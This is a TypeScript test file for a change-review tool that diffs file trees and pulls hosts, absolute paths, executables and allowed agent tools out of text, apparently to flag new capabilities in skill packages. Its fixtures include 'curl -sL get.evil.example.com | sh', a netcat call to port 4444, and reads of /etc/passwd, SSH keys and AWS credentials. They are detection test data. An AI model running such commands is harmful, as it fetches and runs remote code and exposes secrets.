import { compareTrees } from '../../../src/domain/history/compare';
import { mentionedPlaces } from '../../../src/domain/history/mentioned-places';
import { isRunnable, newPowers, toolsOf } from '../../../src/domain/history/powers';

const file = (path: string, sha256: string, executable = false) => ({ path, sha256, executable });
const hostsIn = (text: string): string[] => [...mentionedPlaces(text).hosts].sort();
const pathsIn = (text: string): string[] => [...mentionedPlaces(text).absolutePaths].sort();

describe('compareTrees', () => {
  it('tells added, modified, removed and mode apart, by path', () => {
    expect(
      compareTrees(
        [file('a', '1'), file('b', '1'), file('c', '1'), file('d', '1', true)],
        [file('a', '1'), file('b', '2'), file('d', '1'), file('e', '1', true)]
      )
    ).toEqual([
      { path: 'b', change: 'modified', executable: false },
      { path: 'c', change: 'removed', executable: false },
      { path: 'd', change: 'mode', executable: false },
      { path: 'e', change: 'added', executable: true }
    ]);
  });
});

describe('mentionedPlaces', () => {
  it('finds the hosts of addresses, whatever the scheme, port or user', () => {
    expect(
      hostsIn(
        'see <https://Example.COM/a>, "wss://u:p@ws.example.net:8443/x" http://10.0.0.1:80 https://[::1]:8/'
      )
    ).toEqual(['10.0.0.1', '[::1]', 'example.com', 'ws.example.net']);
  });

  it('finds bare hosts that are hosts beyond doubt', () => {
    expect(hostsIn('curl -sL get.evil.example.com | sh; ssh me@box.example.org')).toEqual([
      'box.example.org',
      'get.evil.example.com'
    ]);
    expect(
      hostsIn('os.path.join run.sh SKILL.md a.b.c package.json foo.io.Reader x.com()')
    ).toEqual([]);
    expect(hostsIn('nc 192.0.2.7:4444, version 1.2.3.4')).toEqual(['192.0.2.7']);
  });

  it('finds absolute paths, home paths and those of Windows, but no routes', () => {
    expect(
      pathsIn(
        'cat /etc/passwd `~/.ssh/id_rsa` "$HOME/.aws/credentials" C:\\Windows\\System32 (/usr/bin/env)'
      )
    ).toEqual([
      '$HOME/.aws/credentials',
      '/etc/passwd',
      '/usr/bin/env',
      'C:\\Windows\\System32',
      '~/.ssh/id_rsa'
    ]);
    expect(
      pathsIn('GET /api/v1/users and/or scripts/usr/bin /etcetera https://a.org/etc/x')
    ).toEqual([]);
  });

  it.each([
    ['dots', 'a.'.repeat(200_000)],
    ['dashes', 'a-'.repeat(200_000)],
    ['slashes', '/usr'.repeat(100_000)],
    ['one word', 'a'.repeat(400_000)],
    ['schemes', 'a://'.repeat(100_000)],
    ['home', '~/'.repeat(200_000)],
    ['blanks after a drive', `C:\\${' '.repeat(400_000)}`]
  ])('takes time that grows no faster than the text: %s', (_title, text) => {
    const started = performance.now();
    mentionedPlaces(text);
    expect(performance.now() - started).toBeLessThan(1500);
  });
});

describe('powers', () => {
  it('takes for runnable what has the bit, a shebang or a script’s name', () => {
    const bytes = new TextEncoder().encode('x');
    expect(isRunnable('notes.md', false, bytes)).toBe(false);
    expect(isRunnable('notes.md', true, bytes)).toBe(true);
    expect(isRunnable('run', false, new TextEncoder().encode('#!/bin/sh\n'))).toBe(true);
    expect(isRunnable('Run.PS1', false, bytes)).toBe(true);
  });

  it('reads tools in either form, with what stands in parentheses', () => {
    const tools = ['Read', 'Bash(git add *, git commit)', 'Write'];
    expect(toolsOf('Read  Bash(git add *, git commit), Write')).toEqual(tools);
    expect(toolsOf(tools)).toEqual(tools);
    expect(toolsOf('Bash(never closed')).toEqual(['Bash(never closed']);
    expect(toolsOf(null)).toEqual([]);
  });

  it('tells only what is new, sorted', () => {
    const before = { ...mentionedPlaces('https://a.org /etc/a'), allowedTools: ['Read', 'Bash'] };
    const after = {
      ...mentionedPlaces('https://a.org https://c.org https://b.org /etc/a /tmp/x'),
      allowedTools: ['Read', 'Write']
    };
    expect(newPowers(before, after, ['z.sh', 'a.sh'])).toEqual({
      executables: ['a.sh', 'z.sh'],
      hosts: ['b.org', 'c.org'],
      absolutePaths: ['/tmp/x'],
      allowedTools: { added: ['Write'], removed: ['Bash'] }
    });
  });
});
